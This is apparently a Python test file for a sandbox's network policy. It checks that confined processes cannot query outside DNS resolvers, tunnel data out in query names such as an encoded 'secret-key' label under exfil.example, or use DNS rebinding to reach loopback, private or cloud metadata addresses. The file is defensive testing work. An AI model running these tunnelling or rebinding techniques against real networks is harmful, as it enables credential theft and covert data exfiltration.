"""Escape corpus, DNS: asking another resolver (UDP, TCP, IPv6, other ports),
tunnelling data out in query names, and DNS rebinding — allowed names that
answer with loopback, private, metadata or v6-embedded metadata addresses.
The other resolver and every rebinding target carry a real listener."""
import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from escape_support import EscapeCase  # noqa: E402
from fake_dns import A, AAAA, CNAME, FakeDns  # noqa: E402

OTHER_RESOLVER, OTHER_RESOLVER6 = "198.51.100.53", "2001:db8:53::53"
NXDOMAIN = 3

# name -> (qtype, answer, the address a connect would really reach)
REBIND = {
    "rebind-lo.example": (A, "127.0.0.1", "127.0.0.1"),
    "rebind-private.example": (A, "10.0.0.7", "10.0.0.7"),
    "rebind-imds.example": (A, "169.254.169.254", "169.254.169.254"),
    "rebind-imds6.example": (AAAA, "fd00:ec2::254", "fd00:ec2::254"),
    "rebind-alibaba.example": (A, "100.100.100.200", "100.100.100.200"),
    "rebind-mapped.example": (AAAA, "::ffff:169.254.169.254", "169.254.169.254"),
    "rebind-nat64.example": (AAAA, "64:ff9b::a9fe:a9fe", "64:ff9b::a9fe:a9fe"),
    "rebind-cgnat.example": (A, "100.64.0.9", "100.64.0.9"),
    "rebind-zero.example": (A, "0.0.0.0", "127.0.0.1"),
}
ZONE = {name: [(t, ip, 300)] for name, (t, ip, _) in REBIND.items()}
ZONE.update({
    "ok.example": [(A, "203.0.113.44", 300)],
    "lo-allowed.example": [(A, "127.0.0.2", 300)],
    "exfil.example": [(A, "203.0.113.45", 300)],
    "cname-private.example": [(CNAME, "hidden.internal", 300)],
    "hidden.internal": [(A, "10.0.0.8", 300)],
})


class EscapeDns(EscapeCase):
    TAG = "esc-dns"
    LO_ADDRS = ("203.0.113.44", "10.0.0.7", "10.0.0.8", "169.254.169.254", "fd00:ec2::254", "100.100.100.200",
                "64:ff9b::a9fe:a9fe", "100.64.0.9", OTHER_RESOLVER, OTHER_RESOLVER6)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.upstream = FakeDns(harness.FAKE_RESOLVER, ZONE)
        cls.cg = cls.attached("names", {"allow": [{"host": n, "ports": [80]}
                                                  for n in list(REBIND) + ["ok.example", "cname-private.example"]]})
        cls.resolver = cls.witness(OTHER_RESOLVER, 53)
        cls.resolver6 = cls.witness(OTHER_RESOLVER6, 53)
        cls.resolver_alt = {p: cls.witness(OTHER_RESOLVER, p) for p in (853, 5353, 443)}
        cls.targets = {}
        for _, _, real in REBIND.values():
            if real not in cls.targets:
                cls.targets[real] = cls.witness(real, 80)
        cls.targets["127.0.0.2"] = cls.witness("127.0.0.2", 80)
        cls.ok = cls.witness("203.0.113.44", 80)
        cls.ok_other = cls.witness("203.0.113.44")
        cls.hidden = cls.witness("10.0.0.8", 80)

    @classmethod
    def tearDownClass(cls):
        cls.upstream.close()
        super().tearDownClass()

    def test_control_allowed_name_resolves_and_connects(self):
        res = self.probe_in(self.cg, "rebind", OTHER_RESOLVER, "ok.example", A, 80, "203.0.113.44")
        self.assertEqual(res["answers"], ["203.0.113.44"], res)
        self.assertEqual(res["connect_literal"], "OK", res)
        self.assertEqual([e[0] for e in self.ok.intrusions()], ["tcp", "tcp"])

    def test_dns_over_udp_to_another_resolver(self):
        res = self.probe_in(self.cg, "dns-udp", OTHER_RESOLVER, 53, "evil.example", A)
        self.assertEqual(res.get("rcode"), NXDOMAIN, "the agent's responder should have answered: %s" % res)
        self.assert_untouched(self.resolver)

    def test_dns_over_tcp_to_another_resolver(self):
        res = self.probe_in(self.cg, "dns-tcp", OTHER_RESOLVER, 53, "evil.example", A)
        self.assertEqual(res.get("rcode"), NXDOMAIN, "the agent's responder should have answered: %s" % res)
        self.assert_untouched(self.resolver)

    def test_dns_over_ipv6_to_another_resolver(self):
        for proto in ("dns-udp", "dns-tcp"):
            res = self.probe_in(self.cg, proto, OTHER_RESOLVER6, 53, "evil.example", AAAA)
            self.assertEqual(res.get("rcode"), NXDOMAIN, "%s: %s" % (proto, res))
        self.assert_untouched(self.resolver6)

    def test_dns_to_another_resolver_on_other_ports(self):
        """DoT (853), mDNS-style 5353, DoH-ish 443: not port 53, so plain policy: denied."""
        for port, w in self.resolver_alt.items():
            self.assertEqual(self.probe_in(self.cg, "dns-udp", OTHER_RESOLVER, port, "evil.example", A)["send"],
                             "EPERM")
            self.assertEqual(self.probe_in(self.cg, "dns-tcp", OTHER_RESOLVER, port, "evil.example", A)["send"],
                             "EPERM")
            self.assert_untouched(w)

    def test_dns_tunnel_in_query_names_never_leaves(self):
        before = len(self.upstream.queries)
        for qtype in (A, AAAA, 16):  # 16 = TXT, the usual tunnel carrier
            res = self.probe_in(self.cg, "dns-udp", OTHER_RESOLVER, 53, "c2VjcmV0LWtleQ.exfil.example", qtype)
            self.assertEqual(res.get("rcode"), NXDOMAIN, res)
        leaked = [q for q in self.upstream.queries[before:] if "exfil" in q[0]]
        self.assertEqual(leaked, [], "a name no policy allows was forwarded upstream")
        self.assert_untouched(self.resolver)

    def rebinding_blocked(self, name):
        qtype, answer, real = REBIND[name]
        literal = answer if qtype == A or not answer.startswith("::ffff:") else real
        res = self.probe_in(self.cg, "rebind", OTHER_RESOLVER, name, qtype, 80, literal)
        for addr, got in res.get("connect_answers", {}).items():
            self.assertEqual(got, "EPERM", "%s answered %s and the sandbox connected: %s" % (name, addr, res))
        self.assertEqual(res["connect_literal"], "EPERM", "%s got %s admitted: %s" % (name, literal, res))
        self.assert_untouched(self.targets[real])

    def test_rebinding_to_loopback(self):
        self.rebinding_blocked("rebind-lo.example")

    def test_rebinding_to_a_private_address(self):
        self.rebinding_blocked("rebind-private.example")

    def test_rebinding_to_cgnat(self):
        self.rebinding_blocked("rebind-cgnat.example")

    def test_rebinding_to_imds(self):
        self.rebinding_blocked("rebind-imds.example")

    def test_rebinding_to_imds_v6(self):
        self.rebinding_blocked("rebind-imds6.example")

    def test_rebinding_to_alibaba_metadata(self):
        self.rebinding_blocked("rebind-alibaba.example")

    def test_rebinding_to_v4_mapped_imds(self):
        self.rebinding_blocked("rebind-mapped.example")

    def test_rebinding_to_nat64_imds(self):
        self.rebinding_blocked("rebind-nat64.example")

    def test_rebinding_to_the_unspecified_address(self):
        self.rebinding_blocked("rebind-zero.example")

    def test_rebinding_through_a_cname_to_a_private_address(self):
        """An allowed name whose CNAME target (a name no rule allows) answers 10.0.0.8."""
        res = self.probe_in(self.cg, "rebind", OTHER_RESOLVER, "cname-private.example", A, 80, "10.0.0.8")
        for addr, got in res.get("connect_answers", {}).items():
            self.assertEqual(got, "EPERM", res)
        self.assertEqual(res["connect_literal"], "EPERM", res)
        self.assert_untouched(self.hidden)

    def test_admitted_address_on_another_port_and_protocol(self):
        """A DNS admission is for the rule's ports and protocol only (TCP 80 here)."""
        res = self.probe_in(self.cg, "rebind", OTHER_RESOLVER, "ok.example", A, self.ok_other.port, "203.0.113.44")
        self.assertEqual(res["answers"], ["203.0.113.44"], res)
        self.assertEqual(res["connect_literal"], "EPERM", res)
        self.assertEqual(self.probe_in(self.cg, "udp-sendto", "203.0.113.44", 80)["sendto"], "EPERM")
        self.assert_untouched(self.ok_other)
        self.assertEqual([e for e in self.ok.intrusions() if e[0] == "udp"], [])

    def test_allowed_ips_naming_loopback_does_not_open_node_loopback(self):
        """Node loopback only through a cidr rule naming address and port, never via allowed_ips."""
        from harness import Cgroup, write_policy
        path = write_policy(self.tmp, "esc-dns-lo", {"allow": [
            {"host": "lo-allowed.example", "ports": [80], "allowed_ips": ["127.0.0.0/8"]}]})
        cg = Cgroup("esc-dns-lo")
        self.cgroups.append(cg)
        r = self.agent.ctl("attach", "--cgroup", cg.path, "--policy", path, check=False)
        if r.returncode != 0:
            self.assertIn("allowed_ips", r.stderr, "refused, but not for its loopback allowed_ips: " + r.stderr)
            return
        res = self.probe_in(cg, "rebind", OTHER_RESOLVER, "lo-allowed.example", A, 80, "127.0.0.2")
        self.assertEqual(res["connect_literal"], "EPERM", res)
        self.assert_untouched(self.targets["127.0.0.2"])


if __name__ == "__main__":
    unittest.main(verbosity=2)
